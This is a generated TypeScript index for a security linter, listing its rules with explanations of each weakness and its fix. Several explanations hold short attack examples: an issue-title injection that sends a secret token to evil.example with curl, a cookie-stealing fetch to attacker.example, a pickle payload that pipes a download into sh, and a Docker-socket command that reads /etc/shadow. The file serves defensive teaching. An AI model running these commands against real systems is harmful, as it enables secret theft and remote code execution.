// Written by scripts/generate.mjs. Do not edit.
import type { Rule } from './rule';
import { rule as containerAsRoot } from './container-as-root/rule';
import { rule as csrfDisabled } from './csrf-disabled/rule';
import { rule as dangerousWorkflow } from './dangerous-workflow/rule';
import { rule as debugEnabled } from './debug-enabled/rule';
import { rule as defaultCredentials } from './default-credentials/rule';
import { rule as grantAll } from './grant-all/rule';
import { rule as hardcodedSecret } from './hardcoded-secret/rule';
import { rule as implicitCrossJoin } from './implicit-cross-join/rule';
import { rule as insecureCookie } from './insecure-cookie/rule';
import { rule as insecureDirectObjectReference } from './insecure-direct-object-reference/rule';
import { rule as jwtNoExpiry } from './jwt-no-expiry/rule';
import { rule as jwtUnverified } from './jwt-unverified/rule';
import { rule as massAssignment } from './mass-assignment/rule';
import { rule as missingAuthorization } from './missing-authorization/rule';
import { rule as missingLoginThrottle } from './missing-login-throttle/rule';
import { rule as missingWhere } from './missing-where/rule';
import { rule as oauthMissingState } from './oauth-missing-state/rule';
import { rule as permissiveCors } from './permissive-cors/rule';
import { rule as plaintextPassword } from './plaintext-password/rule';
import { rule as prototypePollution } from './prototype-pollution/rule';
import { rule as publicBind } from './public-bind/rule';
import { rule as secretInImage } from './secret-in-image/rule';
import { rule as secretInLog } from './secret-in-log/rule';
import { rule as securityHeadersMissing } from './security-headers-missing/rule';
import { rule as sessionFixation } from './session-fixation/rule';
import { rule as shortKey } from './short-key/rule';
import { rule as sqlInjection } from './sql-injection/rule';
import { rule as sqlSyntax } from './sql-syntax/rule';
import { rule as timingUnsafeComparison } from './timing-unsafe-comparison/rule';
import { rule as trustBoundary } from './trust-boundary/rule';
import { rule as unpinnedImage } from './unpinned-image/rule';
import { rule as unsafeDeserialization } from './unsafe-deserialization/rule';
import { rule as unvalidatedInput } from './unvalidated-input/rule';
import { rule as weakCipher } from './weak-cipher/rule';
import { rule as weakHash } from './weak-hash/rule';
import { rule as weakPasswordHash } from './weak-password-hash/rule';
import { rule as weakRandom } from './weak-random/rule';
import { rule as weakWorkFactor } from './weak-work-factor/rule';

/** Every rule, by id. */
export const rules: readonly Rule[] = [
  containerAsRoot,
  csrfDisabled,
  dangerousWorkflow,
  debugEnabled,
  defaultCredentials,
  grantAll,
  hardcodedSecret,
  implicitCrossJoin,
  insecureCookie,
  insecureDirectObjectReference,
  jwtNoExpiry,
  jwtUnverified,
  massAssignment,
  missingAuthorization,
  missingLoginThrottle,
  missingWhere,
  oauthMissingState,
  permissiveCors,
  plaintextPassword,
  prototypePollution,
  publicBind,
  secretInImage,
  secretInLog,
  securityHeadersMissing,
  sessionFixation,
  shortKey,
  sqlInjection,
  sqlSyntax,
  timingUnsafeComparison,
  trustBoundary,
  unpinnedImage,
  unsafeDeserialization,
  unvalidatedInput,
  weakCipher,
  weakHash,
  weakPasswordHash,
  weakRandom,
  weakWorkFactor,
];

/** What the rules' pages say, in Markdown: the weakness, its danger, the repair (without the examples). */
export const ruleDocs: Readonly<Record<string, { what: string; why: string; how: string }>> = {
  'container-as-root': {
    what: 'The program in a container runs as root, or the container gets rights that are as good as root on the host: `privileged`, a powerful capability, or the Docker socket.',
    why: 'A container is a thin wall. A program without rights behind it can do little after a break-in. Root can change every file of the image, listen to the network, and use any hole in the kernel or the settings to reach the host. With the Docker socket no hole is needed:\n\n```text\ndocker -H unix:///var/run/docker.sock run -v /:/host alpine cat /host/etc/shadow\n```',
    how: 'Create a user in the image and switch to it with `USER` before the program starts. Many images bring one: `node` in the Node image, `nobody` everywhere. In a compose file remove `privileged: true` and name the single right that is needed with `cap_add`.\n\nA port below 1024 is no reason for root: let the program listen on 8080 and publish it as 80.',
  },
  'csrf-disabled': {
    what: 'The framework\'s protection against cross-site request forgery (CSRF) is turned off, for a view or for everything.',
    why: 'Browsers send cookies along with every request, also with one that another website starts. A page anywhere can hold this form, and the visitor who opens it has sent money:\n\n```text\n<form action="https://bank.example/transfer" method="post">\n<input name="to" value="attacker"><script>document.forms[0].submit()</script>\n```',
    how: 'Leave the protection on and put the token into your forms. A program that logs in only with a token in the `Authorization` header does not need it: suppress the finding with that reason. In Spring Security leave out `csrf().disable()`, in Rails keep `protect_from_forgery`, in Laravel keep routes out of `$except`, in Symfony leave `csrf_protection` on.',
  },
  'dangerous-workflow': {
    what: 'A GitHub workflow pastes text into a script that anyone can choose, such as the title of an issue. Or it fetches the code of a stranger’s pull request while it has the secrets of the repository. Or it gets more rights than it needs.',
    why: 'GitHub fills in `${{ }}` before the shell sees the script. So the text becomes part of the program. A stranger opens an issue with this title, and your runner runs it:\n\n```text\n"; curl -d "$SECRET_TOKEN" https://evil.example; echo "\n```\n\nWith `pull_request_target`, `issue_comment` and some other events the run has your secrets and may write to the repository. A pull request that changes `package.json` or a test then is a program with those rights.',
    how: 'Put such a value into `env:` and use it as a variable, in quotes: a variable is data for the shell. Build and test pull requests with the event `pull_request`, which has no secrets for strangers. Give each workflow the few rights that it needs with `permissions`.',
  },
  'debug-enabled': {
    what: 'The framework\'s debug mode is turned on in the code.',
    why: 'Debug mode is made for you and shows everything: source code, settings, variables. Flask\'s even has a console in the page that runs what is typed into it:\n\n```text\n>>> import os; os.environ\n```',
    how: 'Take the value from the environment, and let it be off unless somebody turns it on. In Spring leave `debug=true` and `server.error.include-stacktrace=always` out of the settings for production, in Rails keep `consider_all_requests_local` false, in Laravel set `APP_DEBUG=false`, in plain PHP `display_errors=0`.',
  },
  'default-credentials': {
    what: 'A program logs in to a database or another service with a password that everyone knows, such as `admin` or `postgres`, or with none.',
    why: 'Programs scan the internet for such services day and night, and try these first:\n\n```text\npostgres / postgres   root / (empty)   admin / admin\n```',
    how: 'Give the service a random password, and read it from the environment, in every language.',
  },
  'grant-all': {
    what: '`GRANT ALL` gives a database login every right there is, or a right to change data goes to `PUBLIC`, which is every login.',
    why: 'A program that only reads and writes rows does not need to drop tables. If somebody breaks into it, its rights are theirs:\n\n```text\nDROP TABLE orders;\n```',
    how: 'Grant what the program needs, table by table. Give rights to a role and the role to logins.',
  },
  'hardcoded-secret': {
    what: 'A key, a token, a password or an address with a password stands in the source code.',
    why: 'Code is copied: to colleagues, to build servers, to GitHub. What was committed once stays in the history, even after you delete the line. Programs search public repositories for keys, and find new ones within minutes:\n\n```text\ngit log -p | grep -E \'AKIA|sk_live_|BEGIN RSA PRIVATE KEY\'\n```\n\nWith the key that signs your sessions or tokens, anyone can be anyone.',
    how: 'Read secrets from the environment or from a secret store, in every language. Then replace the secret: the old one is no longer secret.',
  },
  'implicit-cross-join': {
    what: 'A query names two tables, and no condition says which rows of the one belong to which rows of the other.',
    why: 'The database then pairs every row with every row. With 1,000 users and 1,000 orders the answer has this many rows:\n\n```text\n1,000,000\n```',
    how: 'Write `JOIN … ON` with the columns that match. If you do want every pair, write `CROSS JOIN`, and everyone can see that you mean it.',
  },
  'insecure-cookie': {
    what: 'A cookie is set without `Secure`, without `HttpOnly`, or with `SameSite=None`.',
    why: 'The cookie of a session is as good as the password: whoever has it is logged in. The three flags close three ways to it.\n\nWithout `Secure` the browser sends it over plain HTTP too, where anyone on the way reads it. Without `HttpOnly` a script in the page can take it:\n\n```text\nfetch(\'https://attacker.example/?\' + document.cookie)\n```\n\nWith `SameSite=None` the browser sends it along with requests that other websites start.',
    how: 'Set all three: `Secure`, `HttpOnly`, and `SameSite=Lax` or `Strict`. Frameworks have a setting for their session cookie. In Java call `setSecure(true)` and `setHttpOnly(true)`, in PHP pass the options array to `setcookie`, in Rails pass `secure: true, httponly: true, same_site: :lax`.',
  },
  'insecure-direct-object-reference': {
    what: 'A request names a record by its id, and nothing checks that the record belongs to the visitor.',
    why: 'Ids are easy to guess. A visitor who sees the first address tries the second:\n\n```text\nhttps://shop.example/orders/1041\nhttps://shop.example/orders/1040\n```',
    how: 'Look the record up together with its owner, or compare the owner afterwards. Answer 404 when it is somebody else\'s. If the records belong to everyone, suppress the hint with that reason. In Rails write `current_user.orders.find(params[:id])`, in Laravel use a policy, in Spring add the owner to the repository\'s method.',
  },
  'jwt-no-expiry': {
    what: 'A token is issued without a time at which it ends.',
    why: 'Your server cannot take such a token back. If it leaks, through a log, a stolen phone or a script in the page, it opens the account for ever:\n\n```text\n{"sub":"7","iat":1577836800}     issued in 2020, valid today\n```',
    how: 'Give tokens a short life, such as 15 minutes, and a second, longer one to renew them that your server can refuse. In Java call `expiration(…)` (JJWT) or `withExpiresAt(…)`, in Ruby and PHP put `exp` into the payload.',
  },
  'jwt-unverified': {
    what: 'A JSON Web Token is read without checking its signature, or the algorithm `none` is allowed, which means no signature.',
    why: 'The signature is all that ties a token to your server. The rest is text that anyone can write:\n\n```text\n{"alg":"none"}\n{"sub":"admin","role":"owner"}\n```',
    how: 'Verify the token with your key before you believe a word of it, and name the algorithm that you sign with. In Java call `parseSignedClaims` (JJWT) or `JWT.require(…).build().verify(…)`, in Ruby `JWT.decode(token, key, true, algorithm: \'HS256\')`, in PHP `JWT::decode($token, new Key($key, \'HS256\'))`.',
  },
  'mass-assignment': {
    what: 'All fields of a request go into a record at once, without a list of those that may be set.',
    why: 'The sender decides which fields there are. Your form has two; the attacker sends a third:\n\n```text\n{"name": "Mallory", "email": "m@example.com", "isAdmin": true}\n```',
    how: 'Pick the fields by name. In Rails use `params.require(:user).permit(:name, :email)`, in Laravel `$request->validated()` with a `$fillable` list, in Spring bind to a class that has only the fields of the form, in Symfony a form type.',
  },
  'missing-authorization': {
    what: 'A route creates, changes or deletes data, and nothing in sight checks who is asking.',
    why: 'Whoever finds the address can call it. No login page stands in the way:\n\n```text\ncurl -X DELETE https://shop.example/products/7\n```',
    how: 'Check in front of the handler that the visitor is logged in, and in it that this visitor may change this record. If a proxy or another file does that already, suppress the hint with that reason. In Spring use `@PreAuthorize` or a `SecurityFilterChain`, in Rails a `before_action`, in Laravel the `auth` middleware, in Symfony `#[IsGranted]`.',
  },
  'missing-login-throttle': {
    what: 'A route takes passwords or codes, and nothing limits how often somebody may try.',
    why: 'A program tries passwords far faster than a person. Lists of leaked logins from other websites are tried one after the other:\n\n```text\nPOST /login  ada@example.com  123456\nPOST /login  ada@example.com  password\n```',
    how: 'Count the failed attempts for each account and for each address, and make the next one wait. If a proxy or another file does that already, suppress this hint with that reason. Libraries: `express-rate-limit`, Flask-Limiter, `django-axes`, Bucket4j in Java, `rack-attack` in Ruby, Laravel\'s `throttle` middleware and Symfony\'s login throttling.',
  },
  'missing-where': {
    what: 'A `DELETE` or `UPDATE` statement has no `WHERE` clause, so it applies to every row of the table.',
    why: 'There is no undo. One run empties the table, or gives every row the same value.',
    how: 'Add a `WHERE` clause that names the rows. Try it as a `SELECT` first and look at what comes back. If you mean every row, say so: suppress the finding with that reason, or use `TRUNCATE` to empty a table.',
  },
  'oauth-missing-state': {
    what: 'A login at another service (OAuth) starts without the parameter `state`.',
    why: 'The service sends the visitor back to your address with a code. Without `state` your server cannot tell whether this browser has asked for it. An attacker sends the victim a link with the attacker\'s own code:\n\n```text\nhttps://shop.example/callback?code=CODE_OF_THE_ATTACKER\n```\n\nThe victim is now logged in as the attacker, and what the victim types in, an address or a card, ends up in the attacker\'s account.',
    how: 'Send a random `state`, keep it in the session, and refuse the answer when it is another one. Libraries do that when you let them: leave it on in Passport, Authlib, Spring Security, OmniAuth and Socialite.',
  },
  'permissive-cors': {
    what: 'The server tells browsers that any website may read its answers: with the origin `*`, by sending back whatever origin the request names, or with the origin `null`.',
    why: 'A browser keeps the pages of one site away from the answers of another. CORS headers open that door, here for every website.\n\nWith credentials, a page at another address even acts as the visitor who is logged in to yours:\n\n```text\nfetch(\'https://your-bank.example/account\', { credentials: \'include\' })\n```\n\nA public service without login may send `*` on purpose. Then suppress the finding and give that reason.',
    how: 'Allow the origins that you know, from a list.',
  },
  'plaintext-password': {
    what: 'A password is stored as the user typed it, or compared with a stored text.',
    why: 'Databases leak: through a backup, a bug, or a curious colleague. People use one password in many places, so a leaked password opens their mail as well:\n\n```text\nemail                password\nada@example.com      correct horse battery\n```',
    how: 'Store a hash made for passwords: bcrypt, scrypt or Argon2. They are slow on purpose, and they mix in a random salt, so two users with the same password get different hashes. At login let the library compare the typed password with the stored hash.',
  },
  'prototype-pollution': {
    what: 'Keys from a request are used to write into an object, by a deep merge or as `object[a][b] = value`.',
    why: 'In JavaScript almost every object inherits from one shared prototype, which is reached by the key `__proto__`. A request can write there:\n\n```text\n{"__proto__": {"isAdmin": true}}\n```\n\nFrom then on `user.isAdmin` is true for every object that has no such field of its own.',
    how: 'Copy the fields that you know by name. Where keys have to be free, use a `Map`, or an object made with `Object.create(null)`, or refuse `__proto__`, `constructor` and `prototype`. The other languages of this tool have no such prototype.',
  },
  'public-bind': {
    what: 'A server listens on `0.0.0.0` (or `::`), which means every network address of the machine.',
    why: 'Everyone in the same network can reach it: in a café, in the office, and on a server without a firewall the whole internet.\n\n```text\ncurl http://192.168.0.17:5000/admin\n```',
    how: 'During development listen on `127.0.0.1`. In a container `0.0.0.0` is needed and right: there the published ports decide; suppress the hint with that reason. That holds for every language.',
  },
  'secret-in-image': {
    what: 'A Dockerfile writes a password, key or token into the image: as `ENV` or `ARG`, by copying a file such as `.env`, or in a command.',
    why: 'An image is copied to registries, servers and laptops. Each layer keeps what was in it, even when a later step deletes the file. Whoever can pull the image reads it:\n\n```text\ndocker history --no-trunc your-image\ndocker inspect your-image --format \'{{.Config.Env}}\'\n```',
    how: 'Give secrets to the container when it starts: from the environment of the platform, or from a secret store. For a secret that only the build needs, use `RUN --mount=type=secret`, which leaves nothing behind. List `.env` and keys in `.dockerignore`. A secret that was in an image is known: change it.',
  },
  'secret-in-log': {
    what: 'A password, a key or a token is written to a log or to the console.',
    why: 'Logs live long. They are copied to other machines, kept in backups, and read by people and programs that have no business with passwords. One line is enough:\n\n```text\nlogin failed: ada@example.com correct-horse\n```',
    how: 'Log what happened and to whom, but not the secret. Where you have to tell two keys apart, log the last four characters. Many loggers can leave out fields by name, in every language: `redact` of pino, a filter for Python\'s `logging`, `filter_parameters` in Rails.',
  },
  'security-headers-missing': {
    what: 'The application answers without the headers that tell browsers to be careful: `Content-Security-Policy`, `Strict-Transport-Security`, `X-Content-Type-Options` and others.',
    why: 'They are a second line of defence. When a hole lets a script into a page, a content security policy still stops it from running or from calling home:\n\n```text\nRefused to load https://attacker.example/x.js: it violates the Content Security Policy\n```',
    how: 'Add the middleware that sets them with good defaults, and then write a content security policy for your pages. If a proxy sets them, suppress the hint with that reason. Spring Security and Rails set most of them by default; in Laravel and Symfony add a middleware or the NelmioSecurityBundle.',
  },
  'session-fixation': {
    what: 'A visitor logs in, and the session keeps the id that it had before.',
    why: 'An attacker who can choose the id needs no password:\n\n```text\n1. The attacker gets a session id and plants it in the victim\'s browser.\n2. The victim logs in. The same id now belongs to a logged-in session, and the attacker knows it.\n```',
    how: 'Make a new session id at every login, before you store who it is. In Java call `request.changeSessionId()`, in Rails `reset_session`, in PHP `session_regenerate_id(true)`. Django\'s `login` and Spring Security do it for you.',
  },
  'short-key': {
    what: 'A key for RSA, DSA, Diffie-Hellman or elliptic curves is made with too few bits.',
    why: 'The length of the key is what an attacker has to overcome. RSA with 512 bits can be rented:\n\n```text\nRSA  512 bits   some hours, about 75 dollars\nRSA 2048 bits   nobody has done it\n```',
    how: 'Take RSA with 3072 bits (2048 is the least), or the curve P-256, or Ed25519. In Java pass 3072 to `KeyPairGenerator.initialize`, in Ruby to `OpenSSL::PKey::RSA.new`, in PHP set `private_key_bits`.',
  },
  'sql-injection': {
    what: 'A value from outside, such as a query parameter or a form field, is glued into the text of an SQL statement. The database cannot tell which part of the text you wrote and which part came from the visitor.',
    why: 'Whoever sends the value can change the statement: read other people’s rows, change or delete them.\n\nSuppose the page looks a user up by name. A visitor sends this instead of a name:\n\n```text\nx\' OR \'1\'=\'1\n```\n\nThe statement becomes `SELECT * FROM users WHERE name = \'x\' OR \'1\'=\'1\'`, and it returns every user. With other text the visitor can change or delete rows, or read other tables. Escaping quotes by hand does not help for numbers, and it is forgotten sooner or later.',
    how: 'Write a placeholder where the value belongs, and hand the value to the driver apart from the text. The database then treats it as data, whatever it contains. Each driver has its own placeholder.\n\nA placeholder stands for a value only. For the name of a table or column, or for `ASC` and `DESC`, pick one from a fixed list in your code.',
  },
  'sql-syntax': {
    what: 'The database cannot read this statement: a word is misspelled, a comma or a parenthesis is missing, or the parts stand in the wrong order.',
    why: 'The statement fails when it runs, and not before. In a program that may be late: in front of a user.',
    how: 'Look at the marked place and at the word in front of it. The mistake is often one token earlier than the message. The parts of a query have a fixed order: `SELECT`, `FROM`, `WHERE`, `GROUP BY`, `HAVING`, `ORDER BY`, `LIMIT`.',
  },
  'timing-unsafe-comparison': {
    what: 'A signature, a key or a token from a request is compared with `==` or `===`.',
    why: 'Such a comparison stops at the first character that differs. The more characters are right, the longer it takes. An attacker who measures many requests finds one character after the other:\n\n```text\na000…  1.00 µs\nb000…  1.04 µs   the first character is right\n```',
    how: 'Compare with a function that always takes the same time: `crypto.timingSafeEqual` in Node.js, `hmac.compare_digest` in Python, `MessageDigest.isEqual` in Java, `ActiveSupport::SecurityUtils.secure_compare` in Ruby, `hash_equals` in PHP.',
  },
  'trust-boundary': {
    what: 'Data of a request goes into the session as it comes.',
    why: 'What stands in the session looks like the server\'s own. Code that reads it later does not check it again, and should not have to:\n\n```text\nPOST /step1   plan=free        the session now says plan=free\nPOST /step1   plan=enterprise  and now it says plan=enterprise\n```',
    how: 'Check the data first, against a list or a type, and put only the result into the session. That holds for every language.',
  },
  'unpinned-image': {
    what: 'A Dockerfile, a compose file or a workflow takes a part from others without saying which version: `latest`, no tag at all, or a tag of an action that its owner can move.',
    why: 'The same build gives another program tomorrow. That can break your service, and it lets whoever takes over the other project run code in yours. Tags of widely used actions have been moved to code that printed the secrets of every workflow:\n\n```text\nuses: some-owner/changed-files@v45   # yesterday harmless, today another commit\n```',
    how: 'Name a version of the image, or its digest, which cannot move at all. Name an action by its full commit, with the version in a comment. A tool such as Dependabot or Renovate then raises the versions in pull requests that you can read.',
  },
  'unsafe-deserialization': {
    what: 'Bytes or text from outside are turned into objects with a format that can hold objects of any class, such as Python\'s pickle, Java\'s serialization or PHP\'s `serialize`.',
    why: 'Such a format says which classes to make and how. The sender can choose classes that run a command while they are made. For pickle this is enough:\n\n```text\ncos\nsystem\n(S\'curl attacker.example | sh\'\ntR.\n```',
    how: 'Use a format that holds only data, such as JSON, and check what comes out. For YAML use the safe loader. In Java read JSON into a class of your own, without polymorphic types; in Ruby take `JSON.parse` and `YAML.safe_load` in place of `Marshal.load`; in PHP take `json_decode` in place of `unserialize`.',
  },
  'unvalidated-input': {
    what: 'A handler stores what the request sends, and looks at none of it first.',
    why: 'A request is whatever the sender writes, not what your form offers:\n\n```text\n{"title": {"$ne": null}, "price": -1, "text": "(40 megabytes)"}\n```\n\nThe database takes some of it and refuses some of it, and the rest of the program meets data that it was not written for.',
    how: 'Say what you expect, and answer 400 to the rest: type, length, range, form. A library makes that short: zod, Joi or class-validator in JavaScript, pydantic or marshmallow in Python, Bean Validation in Java, model validations in Rails, form requests in Laravel.',
  },
  'weak-cipher': {
    what: 'Data is encrypted with an old cipher (DES, Triple DES, RC4, Blowfish), in the mode ECB, or with an initialisation vector that is always the same.',
    why: 'Old ciphers have short keys or short blocks and can be broken. ECB encrypts equal blocks to equal blocks, so patterns stay visible:\n\n```text\nbalance=100 balance=100   →   8f3a… 8f3a…\n```\n\nA fixed vector does the same for whole messages.',
    how: 'Use AES-256 in the mode GCM, with a new random vector for each message. GCM also notices when the text was changed. In Java write `Cipher.getInstance("AES/GCM/NoPadding")`, in Ruby `OpenSSL::Cipher.new(\'aes-256-gcm\')`, in PHP `openssl_encrypt` with `aes-256-gcm` or the functions of sodium.',
  },
  'weak-hash': {
    what: 'MD5, SHA-1 or an older hash function is used where somebody could gain by fooling it.',
    why: 'A hash stands for the data that it was made from. For MD5 and SHA-1 two different inputs with one hash can be made, so it stands for both:\n\n```text\ncontract-1000-euro.pdf   a5b1…\ncontract-9000-euro.pdf   a5b1…\n```\n\nAs a checksum against accidents, for a cache or an ETag, they still do.',
    how: 'Use SHA-256 or a newer function. Where a signature is meant, use an HMAC with a key. For passwords use bcrypt, scrypt or Argon2. In Java write `MessageDigest.getInstance("SHA-256")`, in Ruby `Digest::SHA256`, in PHP `hash(\'sha256\', …)`.',
  },
  'weak-password-hash': {
    what: 'A password is hashed with a function such as MD5, SHA-1 or SHA-256, which is made to be fast.',
    why: 'A stolen database is attacked offline: the attacker hashes one guess after the other and compares. A fast hash makes that cheap. One graphics card tries this many passwords a second against MD5:\n\n```text\n100,000,000,000\n```\n\nWithout a salt it is worse. Equal passwords have equal hashes, and lists of hashes of common passwords are on the web.',
    how: 'Use a hash made for passwords: bcrypt, scrypt or Argon2. They are slow on purpose, and they mix in a random salt. At login let the library compare. In Java take Spring Security\'s `BCryptPasswordEncoder`, in Rails `has_secure_password`, in PHP `password_hash` and `password_verify`.',
  },
  'weak-random': {
    what: 'A token, a password, a key or a code is made with a random generator that is not for secrets, such as `Math.random`.',
    why: 'Such a generator computes each number from the one before. An attacker who sees a few numbers computes the rest, and with them the next reset link:\n\n```text\nseen:      0.8051  0.1627  0.4419\ncomputed:  0.9350  →  https://shop.example/reset?token=xk93…\n```',
    how: 'Use the generator that the language has for this: `crypto.randomBytes` or `crypto.randomUUID` in Node.js, `secrets` in Python, `SecureRandom` in Java and Ruby, `random_bytes` and `random_int` in PHP.',
  },
  'weak-work-factor': {
    what: 'A password is hashed with bcrypt, scrypt or PBKDF2, but with a cost so low that the hash is quick to compute.',
    why: 'These functions protect a stolen database because every guess takes time. The cost says how much. With bcrypt each step of the cost halves what an attacker can try:\n\n```text\ncost  4: about 2,000 guesses a second on one processor core\ncost 12: about 4\n```',
    how: 'Choose the cost so that one hash takes about a quarter of a second on your server: 12 for bcrypt, 600,000 iterations for PBKDF2 with SHA-256, N of 131,072 for scrypt. That holds in every language: `new BCryptPasswordEncoder(12)` in Java, `BCrypt::Password.create(password, cost: 12)` in Ruby, `password_hash($password, PASSWORD_BCRYPT, [\'cost\' => 12])` in PHP.',
  },
};
